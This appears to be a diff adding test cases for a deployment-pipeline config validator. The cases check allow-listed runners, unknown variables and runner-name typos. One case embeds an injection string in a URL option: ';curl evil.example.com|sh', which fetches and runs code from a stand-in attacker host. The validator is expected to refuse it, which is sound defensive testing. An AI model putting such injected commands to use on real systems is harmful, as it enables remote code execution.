@@ -46,6 +46,72 @@ def line_with(file: Path, text: str) -> int:
 
 
 CASES: dict[str, list[Expect]] = {
+    "step-shell-injection": [
+        Expect(
+            "prod.yaml",
+            "smoke.check --url",
+            "steps.after_deploy[0]",
+            "refused by the allow-list: value 'https://shop.example.com/;curl evil.example.com|sh' "
+            "of option --url does not match its pattern 'https://[a-z.]+/[a-z]*'",
+        )
+    ],
+    "step-unknown-runner": [
+        Expect(
+            "prod.yaml",
+            "migrator.migrate",
+            "steps.before_deploy[0]",
+            "refused by the allow-list: unknown runner 'migrator'; known runners: migrate, plan, "
+            "smoke",
+        )
+    ],
+    "step-unknown-variable": [
+        Expect(
+            "prod.yaml",
+            "plan.plan --stack",
+            "steps.before_approval[0]",
+            "#{prod-plan.name}: no earlier step has the namespace 'prod-plan'",
+        )
+    ],
+    "builtin-without-runner-image": [
+        Expect(
+            "pipeline.yaml",
+            "plan: cloudformation-planner",
+            "runners.plan",
+            "the built-in cloudformation-planner needs `runner.image` in pipeline.yaml",
+        )
+    ],
+    "unknown-builtin-runner": [
+        Expect(
+            "pipeline.yaml",
+            "plan: cloudformation-plan",
+            "runners.plan",
+            "unknown built-in runner 'cloudformation-plan'; did you mean 'cloudformation-planner'?",
+        )
+    ],
+    "before-approval-without-approval": [
+        Expect(
+            "dev.yaml",
+            "before_approval:",
+            "steps.before_approval",
+            "dev has no approval to run these before",
+        )
+    ],
+    "codebuild-step-variable": [
+        Expect(
+            "prod.yaml",
+            "smoke.check --url",
+            "steps.after_deploy[0]",
+            "smoke runs on CodeBuild, where nothing checks arguments again at run time",
+        )
+    ],
+    "runner-override-unknown": [
+        Expect(
+            "prod.yaml",
+            "migrat:",
+            "runners.migrat",
+            "unknown runner 'migrat'; did you mean 'migrate'?",
+        )
+    ],
     "missing-pipeline-yaml": [Expect("pipeline.yaml", None, "", "file not found")],
     "missing-environments-dir": [Expect("environments", None, "", "no such directory")],
     "invalid-yaml-syntax": [Expect("prod.yaml", "   subnets:", "", "invalid YAML: mapping values")],
